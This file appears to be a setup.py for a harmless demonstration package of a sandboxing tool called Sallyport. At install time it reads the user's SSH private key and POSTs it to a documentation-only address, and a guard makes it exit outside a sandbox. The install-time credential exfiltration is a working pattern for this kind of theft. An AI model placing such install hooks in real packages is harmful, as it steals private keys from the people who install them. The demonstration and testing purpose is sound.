# Harmless demonstration of Sallyport. It acts out what a credential stealer does at install time, on a decoy that
# Sallyport planted and towards an address that exists on no network (192.0.2.0/24, RFC 5737). Outside a sandbox it
# refuses to do anything.
import os
import socket
import sys

from setuptools import setup

if os.path.exists("/sys/kernel"):
    sys.exit("sallyport-demo: this is no sandbox; nothing was done")

with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as key:
    stolen = key.read()
try:
    with socket.create_connection(("192.0.2.1", 80), timeout=2) as connection:
        connection.sendall(b"POST /collect HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n" + stolen)
except OSError:
    pass

setup(name="sallyport-demo", version="1.0.0", packages=["sallyport_demo"], license="Apache-2.0",
      description="Harmless demonstration: reads a decoy and tries to send it")
